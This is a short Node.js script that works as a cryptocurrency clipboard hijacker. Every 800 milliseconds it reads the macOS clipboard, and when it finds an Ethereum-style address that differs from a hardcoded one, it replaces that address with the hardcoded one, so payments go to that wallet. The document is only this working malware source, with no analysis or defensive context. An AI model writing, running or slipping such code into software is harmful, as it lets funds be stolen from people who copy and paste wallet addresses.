const { execSync } = require("child_process");

const own = "0x1111111111111111111111111111111111111111";
setInterval(() => {
  const text = execSync("pbpaste").toString().trim();
  if (/^0x[a-fA-F0-9]{40}$/.test(text) && text !== own) execSync("pbcopy", { input: own });
}, 800);
